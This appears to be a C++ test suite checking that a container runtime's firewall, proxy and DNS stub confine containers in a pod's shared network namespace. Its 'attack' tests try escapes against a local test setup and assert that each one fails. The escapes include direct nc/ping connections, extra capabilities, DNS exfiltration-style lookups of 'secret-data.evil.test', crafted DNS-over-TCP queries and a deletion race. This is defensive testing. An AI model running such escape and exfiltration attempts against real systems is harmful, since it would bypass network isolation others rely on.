// Network needs in a network namespace the runtime joins by path, made
// before the container as CNI, netavark and `ip netns` make a pod's: the
// namespace's own firewall (nftables) holds it to loopback, the helper's
// forwards and proxy listen there, and the later containers of the pod are
// held to the first one's policy. Each test's "outside" is its own network
// namespace (8.8.8.8 on its lo, a server there), joined to the pod's
// namespace by a veth pair and a default route: without a policy, the
// container reaches it.
#include "support/container_env.hpp"
#include "support/net_server.hpp"

#include <criterion/criterion.h>

#include <chrono>
#include <cstdlib>
#include <string>
#include <thread>
#include <vector>

#include <poll.h>
#include <unistd.h>

using test::cleanup_all;
using test::contains;
using test::Env;
using test::make_env;
using test::Server;

namespace {

// The test's outside and the pod's namespace; `srv` tags what it echoes.
struct Pod {
    Server srv;
    test::PodNetns ns;
    std::string port;
};

void make_pod(Pod &p) {
    // 10.77.0.53: where the pod's resolv.conf sends DNS (on the outside).
    test::own_network({"8.8.8.8", "10.77.0.53"});
    test::serve(p.srv, "8.8.8.8", "PUB:");
    p.port = std::to_string(p.srv.port);
    test::make_pod_netns(p.ns);
}

// A container in the pod's namespace, running `script`, with `need` (or no
// annotation for "").
Env in_pod(const Pod &p, const char *tag, const std::string &script, const std::string &need) {
    Env e = make_env(tag, {"sh", "-c", script});
    for (auto &n : e.b.spec.linux_->namespaces)
        if (n.type == ocirun::oci::NsType::network) n.path = p.ns.path;
    if (!need.empty()) e.b.spec.annotations["dev.ocirun.network"] = need;
    return e;
}

// Straight to the outside server: "PUB:hi" when it got there.
std::string direct(const Pod &p) {
    return "echo hi | nc -w 5 8.8.8.8 " + p.port + "; echo tcp=$?; ";
}

// The proxy allows a.test (the outside server, by a hosts file).
void allow_a_test(Env &e, const Pod &p) {
    e.b.spec.annotations["dev.ocirun.network"] = "https";
    e.b.spec.annotations["dev.ocirun.domains"] = "a.test:" + p.port;
    std::string hosts = e.root + "/hosts";
    test::write_file(hosts, "8.8.8.8 a.test\n");
    ::setenv("OCI_RUN_RESOLVE_HOSTS", hosts.c_str(), 1);
}

std::string via_proxy(const Pod &p) {
    return "(printf 'CONNECT a.test:" + p.port +
           " HTTP/1.1\\r\\n\\r\\nping\\n'; sleep 0.5) | nc -w 5 127.0.0.1 3128; echo; ";
}

// A container without a policy in the namespace reaches the outside: no
// firewall is left there.
void reaches_outside(const Pod &p, const char *tag) {
    Env e = in_pod(p, tag, direct(p), "");
    auto o = test::run(e);
    cr_assert_eq(o.status, 0, "%s", o.err.c_str());
    cr_assert(contains(o.out, "PUB:hi"), "the namespace is still closed: %s", o.out.c_str());
}

std::vector<std::string> lines(const std::string &s) {
    std::vector<std::string> out;
    for (size_t at = 0; at < s.size();) {
        size_t nl = s.find('\n', at);
        if (nl == std::string::npos) nl = s.size();
        out.push_back(s.substr(at, nl - at));
        at = nl + 1;
    }
    return out;
}

long started(const Env &e) {
    e.b.save();
    auto c = test::create(e);
    cr_assert_eq(c.status, 0, "create %s: %s", e.id.c_str(), c.err.c_str());
    auto s = test::oci({"--root", e.root, "start", e.id});
    cr_assert_eq(s.status, 0, "start %s: %s", e.id.c_str(), s.err.c_str());
    return test::state_of(e.root, e.id).pid;
}

} // namespace

TestSuite(podnet, .fini = cleanup_all, .timeout = 90);

// Without a policy the pod's namespace reaches the outside; with each need,
// nothing but loopback: a direct connection fails at once (a reset, not a
// timeout), ICMP too, and under https the proxy (the helper, outside the
// namespace) is the way out.
Test(podnet, attack_each_need_holds_a_joined_namespace_to_loopback) {
    Pod p;
    make_pod(p);
    reaches_outside(p, "podctl");
    const std::string attempts =
        direct(p) + "ping -c 1 -W 5 8.8.8.8 >/dev/null 2>&1; echo icmp=$?; ";
    for (const char *need : {"none", "local", "https"}) {
        Env e = in_pod(p, need, attempts + via_proxy(p), need);
        if (std::string(need) == "https") allow_a_test(e, p);
        auto t0 = std::chrono::steady_clock::now();
        auto o = test::run(e);
        auto took = std::chrono::steady_clock::now() - t0;
        std::string all = o.out + o.err;
        cr_assert_eq(o.status, 0, "%s: %s", need, all.c_str());
        cr_assert(contains(all, "tcp=1") && contains(all, "icmp=1"), "%s: %s", need, all.c_str());
        cr_assert(!contains(all, "PUB:hi"), "%s reached the outside directly: %s", need,
                  all.c_str());
        cr_assert_lt(std::chrono::duration_cast<std::chrono::seconds>(took).count(), 5,
                     "%s: the attempts waited for their timeouts: %s", need, all.c_str());
        if (std::string(need) == "https")
            cr_assert(contains(all, "200") && contains(all, "PUB:ping"), "proxy: %s", all.c_str());
        else
            cr_assert(!contains(all, "PUB:ping"), "%s: %s", need, all.c_str());
    }
    // Each delete took its table away.
    reaches_outside(p, "podafter");
    cleanup_all();
}

// The same from a container root with every capability it can be given but
// CAP_NET_ADMIN (which could change the firewall, and is refused), and in a
// user namespace of its own.
Test(podnet, attack_capabilities_and_user_namespace_do_not_open_it) {
    Pod p;
    make_pod(p);
    Env admin = in_pod(p, "podadm", direct(p), "https");
    test::add_capabilities(admin, {"CAP_NET_ADMIN"});
    auto refused = test::run(admin);
    cr_assert_neq(refused.status, 0, "%s", refused.out.c_str());
    cr_assert(contains(refused.err, "CAP_NET_ADMIN"), "%s", refused.err.c_str());
    reaches_outside(p, "podadm2");

    Env all = in_pod(p, "podall", direct(p) + "ping -c 1 -W 5 8.8.8.8; echo icmp=$?", "local");
    test::add_all_capabilities(all);
    auto &caps = *all.b.spec.process->capabilities;
    for (auto *set : {&caps.bounding, &caps.effective, &caps.permitted})
        std::erase(*set, "CAP_NET_ADMIN");
    auto o = test::run(all);
    cr_assert_eq(o.status, 0, "%s", o.err.c_str());
    cr_assert(contains(o.out, "tcp=1") && contains(o.out, "icmp=1") && !contains(o.out, "PUB:hi"),
              "%s", o.out.c_str());

    Env userns = in_pod(p, "podusr", direct(p), "none");
    test::use_user_namespace(userns);
    auto u = test::run(userns);
    cr_assert_eq(u.status, 0, "%s", u.err.c_str());
    cr_assert(contains(u.out, "tcp=1") && !contains(u.out, "PUB:hi"), "%s", u.out.c_str());
    cleanup_all();
}

// report reads the table back from the kernel; a create that fails after
// installing it takes it away again.
Test(podnet, firewall_is_reported_and_a_failed_create_leaves_none) {
    Pod p;
    make_pod(p);
    Env e = in_pod(p, "podrep", "sleep 30", "local");
    started(e);
    auto rep = test::oci({"--root", e.root, "report", e.id});
    // exec cannot bring in what create refused.
    auto admin = test::oci({"--root", e.root, "exec", "--cap", "CAP_NET_ADMIN", e.id, "true"});
    test::oci({"--root", e.root, "delete", "--force", e.id});
    cr_assert_eq(rep.status, 0, "%s", rep.err.c_str());
    cr_assert_neq(admin.status, 0);
    cr_assert(contains(admin.err, "CAP_NET_ADMIN"), "%s", admin.err.c_str());
    std::string row;
    for (auto line : lines(rep.out))
        if (line.rfind("network local", 0) == 0) row = line;
    cr_assert(contains(row, "enforced") &&
                  contains(row, "firewall of the joined network namespace") &&
                  contains(row, "table inet oci_run as installed"),
              "%s", rep.out.c_str());
    reaches_outside(p, "podrep2");

    Env bad = in_pod(p, "podhook", "true", "https");
    bad.b.spec.hooks.emplace();
    bad.b.spec.hooks->create_runtime.push_back({"/bin/false", {"false"}, {}, {}});
    bad.b.save();
    auto c = test::create(bad);
    cr_assert_neq(c.status, 0);
    reaches_outside(p, "podhook2");
    cleanup_all();
}

// A pod: its first container installs the policy and runs the helper; the
// others are held to it. Without keys of their own they get it; asking for
// more is refused naming the key; network=none tightens; the same keys (as
// containerd passes a pod's annotations to each of its containers) start
// no second helper. The firewall stays while a container held to it runs.
Test(podnet, pod_containers_are_held_to_the_pods_policy) {
    Pod p;
    make_pod(p);
    Env owner = in_pod(p, "podown", "sleep 60", "");
    allow_a_test(owner, p);
    started(owner);

    auto sibling = [&](const char *tag, const std::string &script,
                       std::initializer_list<std::pair<const char *, std::string>> keys) {
        Env e = in_pod(p, tag, script, "");
        e.root = owner.root; // the same --root, as one client's pod
        test::track(e.root, e.id);
        for (const auto &[k, v] : keys)
            e.b.spec.annotations[k] = v;
        return e;
    };
    Env plain = sibling("podapp", "sleep 60", {});
    long app = started(plain);
    auto x = test::oci({"--root", owner.root, "exec", plain.id, "sh", "-c",
                        "echo proxy=$HTTPS_PROXY; " + direct(p) + via_proxy(p)});
    auto rep = test::oci({"--root", owner.root, "report", plain.id});

    auto more = test::run(sibling("podfull", "true", {{"dev.ocirun.network", "full"}}));
    auto other = test::run(sibling("podoth", "true", {{"dev.ocirun.domains", "b.test"}}));
    auto none = test::run(
        sibling("podnone", "nc -w 2 127.0.0.1 3128; echo rc=$?", {{"dev.ocirun.network", "none"}}));
    auto same = test::run(
        sibling("podsame", "echo proxy=$HTTPS_PROXY; " + via_proxy(p),
                {{"dev.ocirun.network", "https"}, {"dev.ocirun.domains", "a.test:" + p.port}}));

    // The owner goes first; its table stays for the container still there.
    auto del = test::oci({"--root", owner.root, "delete", "--force", owner.id});
    auto after = test::oci({"--root", owner.root, "exec", plain.id, "sh", "-c", direct(p)});
    cleanup_all();
    (void)app;
    cr_assert_eq(x.status, 0, "%s", x.err.c_str());
    cr_assert(contains(x.out, "proxy=http://127.0.0.1:3128"), "%s", x.out.c_str());
    cr_assert(contains(x.out, "tcp=1") && !contains(x.out, "PUB:hi"), "%s", x.out.c_str());
    cr_assert(contains(x.out, "200") && contains(x.out, "PUB:ping"), "%s", x.out.c_str());
    cr_assert(contains(rep.out, "its pod's firewall (container " + owner.id + ")") &&
                  contains(rep.out, "answering on udp and tcp 127.0.0.1:3153"),
              "%s", rep.out.c_str());
    for (auto line : lines(rep.out))
        if (line.rfind("network https", 0) == 0 || line.rfind("network helper", 0) == 0 ||
            line.rfind("egress proxy", 0) == 0 || line.rfind("dns ", 0) == 0)
            cr_assert(contains(line, "enforced"), "%s", rep.out.c_str());

    cr_assert_neq(more.status, 0);
    cr_assert(contains(more.err, "dev.ocirun.network") && contains(more.err, "more than its pod"),
              "%s", more.err.c_str());
    cr_assert_neq(other.status, 0);
    cr_assert(contains(other.err, "dev.ocirun.domains") && contains(other.err, "more than its pod"),
              "%s", other.err.c_str());
    cr_assert_eq(none.status, 0, "%s", none.err.c_str());
    cr_assert(contains(none.out + none.err, "rc=1") &&
                  contains(none.out + none.err, "Address family not supported"),
              "%s%s", none.out.c_str(), none.err.c_str());
    cr_assert_eq(same.status, 0, "%s", same.err.c_str());
    cr_assert(contains(same.out, "PUB:ping"), "%s", same.out.c_str());

    cr_assert_eq(del.status, 0, "%s", del.err.c_str());
    cr_assert(contains(del.err, "left in place"), "%s", del.err.c_str());
    cr_assert(contains(after.out, "tcp=1") && !contains(after.out, "PUB:hi"), "%s",
              after.out.c_str());
}

// A narrower policy than the pod's is refused rather than promised: the
// pod's proxy serves every container of the namespace.
Test(podnet, narrower_than_the_pod_is_refused_as_unenforceable) {
    Pod p;
    make_pod(p);
    Env owner = in_pod(p, "podnar", "sleep 60", "");
    allow_a_test(owner, p);
    owner.b.spec.annotations["dev.ocirun.domains"] += ",c.test";
    started(owner);
    Env e = in_pod(p, "podnar2", "true", "https");
    e.root = owner.root;
    test::track(e.root, e.id);
    e.b.spec.annotations["dev.ocirun.domains"] = "a.test:" + p.port;
    auto o = test::run(e);
    cleanup_all();
    cr_assert_neq(o.status, 0);
    cr_assert(contains(o.err, "dev.ocirun.domains") && contains(o.err, "narrower"), "%s",
              o.err.c_str());
}

// Report mode in a pod: the pod's containers carry its annotations and start
// (no second helper, no "Address already in use").
Test(podnet, report_mode_works_in_pods) {
    Pod p;
    make_pod(p);
    Env owner = in_pod(p, "podrm", "sleep 60", "");
    allow_a_test(owner, p);
    owner.b.spec.annotations["dev.ocirun.enforcement"] = "report";
    started(owner);
    Env e = in_pod(p, "podrm2", direct(p) + via_proxy(p), "");
    e.root = owner.root;
    test::track(e.root, e.id);
    e.b.spec.annotations = owner.b.spec.annotations;
    auto o = test::run(e);
    cleanup_all();
    cr_assert_eq(o.status, 0, "%s", o.err.c_str());
    cr_assert(contains(o.out, "tcp=1") && contains(o.out, "PUB:ping"), "%s", o.out.c_str());
}

// A namespace whose table another --root's container installed: that
// container is not this root's to follow, and its table is not replaced.
Test(podnet, attack_a_table_of_another_root_is_not_replaced) {
    Pod p;
    make_pod(p);
    Env first = in_pod(p, "podr1", "sleep 60", "none");
    started(first);
    Env second = in_pod(p, "podr2", direct(p), "local");
    auto o = test::run(second);
    cr_assert_neq(o.status, 0);
    cr_assert(contains(o.err, "has oci-run's table already, of container " + first.id), "%s",
              o.err.c_str());
    Env plain = in_pod(p, "podr3", direct(p), "");
    auto q = test::run(plain);
    cleanup_all();
    cr_assert(contains(q.out, "tcp=1") && !contains(q.out, "PUB:hi"), "%s", q.out.c_str());
}

// DNS under https: the pod's resolv.conf names a server outside, and the
// namespace's firewall sends every query to the helper's stub instead, which
// answers the allowed name (with the address the helper resolves; the name
// looked up is the one matched, so "A.Test." is a.test) and NXDOMAIN for any
// other; not one datagram reaches the outside server.
Test(podnet, attack_dns_answers_allowed_names_only_and_nothing_leaves) {
    Pod p;
    make_pod(p);
    int outside = test::bind_udp("10.77.0.53", 53);
    Env e = in_pod(p, "poddns",
                   "nslookup a.test; echo a=$?; nslookup A.Test.; echo u=$?; "
                   "nslookup secret-data.evil.test; echo e=$?",
                   "");
    allow_a_test(e, p);
    test::write_file(e.b.rootfs + "/etc/resolv.conf", "nameserver 10.77.0.53\n");
    auto o = test::run(e);
    long leaked = test::udp_datagrams(outside);
    cleanup_all();
    std::string all = o.out + o.err;
    cr_assert_eq(o.status, 0, "%s", all.c_str());
    size_t a = all.find("a=");
    cr_assert(a != std::string::npos && contains(all.substr(0, a), "8.8.8.8") &&
                  contains(all, "a=0"),
              "the allowed name: %s", all.c_str());
    size_t u = all.find("u=");
    cr_assert(u != std::string::npos && contains(all.substr(a, u - a), "8.8.8.8") &&
                  contains(all, "u=0"),
              "the allowed name in other case: %s", all.c_str());
    cr_assert(!contains(all, "e=0") && contains(all.substr(u), "NXDOMAIN"), "the other: %s",
              all.c_str());
    cr_assert_eq(leaked, 0, "%ld datagrams reached the outside server: %s", leaked, all.c_str());
}

// DNS over TCP (a client asks there when a UDP answer is truncated, and
// some ask there first): the firewall sends it to the stub, which answers
// on one connection each query sent on it, the allowed name with its
// address and another with NXDOMAIN; the outside server gets nothing. The
// firewall used to send TCP port 53 to a port nothing listened on: reset.
Test(podnet, attack_dns_over_tcp_answers_allowed_names_only) {
    Pod p;
    make_pod(p);
    int outside = test::listen_on("10.77.0.53", 53);
    // Two queries, each a two-byte length and the message: id 0x1234 A
    // a.test, id 0x5678 A evil.test (octal escapes for busybox printf).
    auto query = [](const char *id, const char *len, const char *labels) {
        return std::string("\\000") + len + id +
               "\\001\\000\\000\\001\\000\\000\\000\\000\\000\\000" + labels +
               "\\000\\000\\001\\000\\001";
    };
    std::string both = query("\\022\\064", "\\030", "\\001a\\004test") +
                       query("\\126\\170", "\\033", "\\004evil\\004test");
    Env e = in_pod(p, "poddnstcp",
                   "(printf '" + both +
                       "'; sleep 1) | nc 10.77.0.53 53 | od -An -tx1 | tr -d '\\n'; echo; "
                       "echo nc=$?",
                   "");
    allow_a_test(e, p);
    auto o = test::run(e);
    pollfd pf{outside, POLLIN, 0};
    bool reached = ::poll(&pf, 1, 0) > 0;
    ::close(outside);
    cleanup_all();
    std::string all = o.out + o.err;
    cr_assert_eq(o.status, 0, "%s", all.c_str());
    // Each answer: length, id, flags 81 80 (NOERROR) or 81 83 (NXDOMAIN).
    cr_assert(contains(all, "12 34 81 80 00 01 00 01") && contains(all, "08 08 08 08"),
              "the allowed name over TCP: %s", all.c_str());
    cr_assert(contains(all, "56 78 81 83 00 01 00 00"), "the other name over TCP: %s",
              all.c_str());
    cr_assert(!reached, "a connection reached the outside server: %s", all.c_str());
}

// dev.ocirun.intercept: a program that ignores the proxy variables and
// dials an address on port 80 or 443 is sent to the helper, which decides by
// the Host header or the TLS server name and connects to the address that
// name resolves to, never to the one dialled (here 192.0.2.1, which nothing
// answers): an allowed name reaches its server, another name nothing, and
// other ports stay closed. report measures the listeners; in a new network
// namespace there is no route to redirect, and the key is refused.
Test(podnet, attack_intercepted_ports_are_decided_by_the_name_sent) {
    Pod p;
    make_pod(p);
    Server web, tls;
    test::serve(web, "8.8.8.8", "WEB:", 64, 80);
    test::serve(tls, "8.8.8.8", "TLS:", 64, 443);
    Env e = in_pod(p, "podicpt", "sleep 60", "https");
    e.b.spec.annotations["dev.ocirun.domains"] = "a.test";
    e.b.spec.annotations["dev.ocirun.intercept"] = "true";
    std::string hosts = e.root + "/hosts";
    test::write_file(hosts, "8.8.8.8 a.test\n8.8.8.8 b.test\n");
    ::setenv("OCI_RUN_RESOLVE_HOSTS", hosts.c_str(), 1);
    test::write_file(e.b.rootfs + "/hello-a", test::tls_client_hello("a.test"));
    test::write_file(e.b.rootfs + "/hello-b", test::tls_client_hello("b.test"));
    test::write_file(e.b.rootfs + "/hello-none", test::tls_client_hello(""));
    started(e);
    auto http = [](const char *host, const char *path) {
        return std::string("printf 'GET ") + path + " HTTP/1.1\\r\\nHost: " + host +
               "\\r\\n\\r\\n' | nc -w 3 192.0.2.1 80; echo; ";
    };
    // What each hello got back, printable.
    auto hello = [](const char *name) {
        return std::string("echo ") + name + ":$(nc -w 3 192.0.2.1 443 < /hello-" + name +
               " | tr -c 'a-zA-Z.:' _); ";
    };
    auto x = test::oci({"--root", e.root, "exec", e.id, "sh", "-c",
                        http("a.test", "/a") + http("b.test", "/b") + hello("a") + hello("b") +
                            hello("none") + direct(p)});
    auto rep = test::oci({"--root", e.root, "report", e.id});
    std::string events = test::read_file(e.root + "/" + e.id + "/egress.jsonl");
    Env own = make_env("podicown", {"true"});
    own.b.spec.annotations["dev.ocirun.domains"] = "a.test";
    own.b.spec.annotations["dev.ocirun.intercept"] = "true";
    auto refused = test::run(own);
    cleanup_all();
    std::string all = x.out + x.err;
    cr_assert_eq(x.status, 0, "%s", all.c_str());
    cr_assert(contains(all, "WEB:GET /a HTTP/1.1"), "the allowed name's server: %s", all.c_str());
    cr_assert(!contains(all, "WEB:GET /b") && contains(all, "403"), "%s", all.c_str());
    std::string tls_a = all.substr(all.find("\na:") + 1);
    tls_a = tls_a.substr(0, tls_a.find('\n'));
    cr_assert(tls_a.rfind("a:TLS:", 0) == 0 && contains(tls_a, "a.test"), "%s", all.c_str());
    cr_assert(contains(all, "\nb:\n") && contains(all, "\nnone:\n"),
              "a hello without an allowed name reached a server: %s", all.c_str());
    cr_assert(contains(all, "tcp=1") && !contains(all, "PUB:hi"), "%s", all.c_str());
    cr_assert(contains(events, "\"method\":\"TLS\",\"host\":\"a.test\",\"port\":443") &&
                  contains(events, "\"method\":\"HTTP\",\"host\":\"b.test\",\"port\":80"),
              "%s", events.c_str());
    bool row = false;
    for (auto line : lines(rep.out))
        if (line.rfind("intercept", 0) == 0) {
            row = true;
            cr_assert(contains(line, "enforced") && contains(line, "127.0.0.1:3180 (80)"), "%s",
                      rep.out.c_str());
        }
    cr_assert(row, "%s", rep.out.c_str());
    cr_assert_neq(refused.status, 0);
    cr_assert(contains(refused.err, "annotations[dev.ocirun.intercept]: needs a network "
                                    "namespace joined by path"),
              "%s", refused.err.c_str());
}

// Attack: the pod's owner is deleted while a second container of the pod is
// being made, after that create found the owner and before the second init
// is in the namespace. The owner's delete used to see no container of its
// and take the firewall away, and the second ran with the namespace open.
// Now the create finds the owner gone and is refused; deleted after the
// create recorded itself as the owner's, the delete also leaves the firewall
// (create is held 300 ms at each window, OCI_RUN_FAULT_DELAY, and the owner
// deleted once it sleeps there).
Test(podnet, attack_the_owner_deleted_while_a_container_joins) {
    for (const char *window : {"create:owner-found", "create:owner-recorded"}) {
        Pod p;
        make_pod(p);
        Env owner = in_pod(p, "podgone", "sleep 60", "");
        allow_a_test(owner, p); // https: the firewall alone keeps a direct connection in
        started(owner);
        Env e = in_pod(p, "podjoin", direct(p), "");
        e.root = owner.root;
        test::track(e.root, e.id);
        e.b.save();
        ::setenv("OCI_RUN_FAULT_DELAY", window, 1);
        auto c = test::spawn_oci({"--root", e.root, "create", "--bundle", e.b.dir, e.id});
        ::unsetenv("OCI_RUN_FAULT_DELAY");
        // In the window: asleep in nanosleep (35) or clock_nanosleep (230).
        std::string call;
        for (int i = 0; i < 500 && call != "35" && call != "230"; i++, ::usleep(10000)) {
            std::string sys = test::read_file("/proc/" + std::to_string(c.pid) + "/syscall");
            call = sys.substr(0, sys.find(' '));
        }
        auto d = test::oci({"--root", owner.root, "delete", "--force", owner.id});
        int created = test::wait_bounded(c.pid, 10000);
        std::string err = test::read_file(c.err_path);
        test::Output s;
        if (created == 0) s = test::oci({"--root", e.root, "start", e.id});
        std::string st = created == 0 ? test::wait_status(e.root, e.id, "stopped") : "";
        std::string out = test::read_file(c.out_path);
        cleanup_all();
        cr_assert(call == "35" || call == "230", "%s: create never slept there", window);
        cr_assert_eq(d.status, 0, "%s: delete: %s", window, d.err.c_str());
        cr_assert(!contains(out, "PUB:hi"), "%s: the joiner reached the outside: %s", window,
                  out.c_str());
        cr_assert_eq(created, 1, "%s: %s", window, err.c_str());
        cr_assert(contains(err, "that container went while this one was made"), "%s: %s", window,
                  err.c_str());
        if (std::string(window) == "create:owner-recorded")
            cr_assert(contains(d.err, "the network namespace's firewall is left in place") &&
                          contains(d.err, "is being made"),
                      "%s: %s", window, d.err.c_str());
    }
}
